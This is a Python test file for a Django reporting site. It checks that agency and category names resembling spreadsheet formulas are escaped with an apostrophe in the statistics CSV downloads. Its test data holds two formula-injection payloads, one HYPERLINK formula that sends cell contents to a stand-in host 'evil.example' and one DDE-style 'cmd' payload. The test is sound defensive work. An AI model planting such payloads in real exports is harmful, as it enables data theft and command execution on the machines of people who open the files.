"""Formula injection through the statistics downloads: their rows carry no report text, only
names from the directory and categories (typed by admins, imported from files). A name that
starts like a formula is behind an apostrophe in the CSV; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
import time_machine
from django.test import Client

from lapor.agencies.models import Agency, Category
from lapor.reports.models import Report
from tests.stats.conftest import NOW

pytestmark = pytest.mark.django_db

AGENCY = '=HYPERLINK("http://evil.example/?d="&A1,"Dinas PUPR")'
CATEGORY = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_names_that_look_like_formulas_are_text(dataset, directory):
    from lapor.stats.rollup import refresh

    Report.objects.filter(pk=dataset.quick.pk).update(category=directory.category_road)
    Agency.objects.filter(pk=directory.sleman_pupr.pk).update(name=AGENCY)
    Category.objects.filter(parent__isnull=True).update(name=CATEGORY, name_en=CATEGORY)
    with time_machine.travel(NOW, tick=False):
        refresh(full=True)
    client = Client()
    rows = {}
    for slug in ("agencies", "categories"):
        response = client.get(f"/en/statistik/{slug}.csv")
        assert response.status_code == 200
        rows[slug] = list(csv.reader(io.StringIO(response.content.decode())))
    labels = {row[0] for row in rows["agencies"][1:]}
    assert "'" + AGENCY in labels and AGENCY not in labels
    assert "'" + CATEGORY in {row[0] for row in rows["categories"][1:]}
    for table in rows.values():
        for row in table:
            assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row
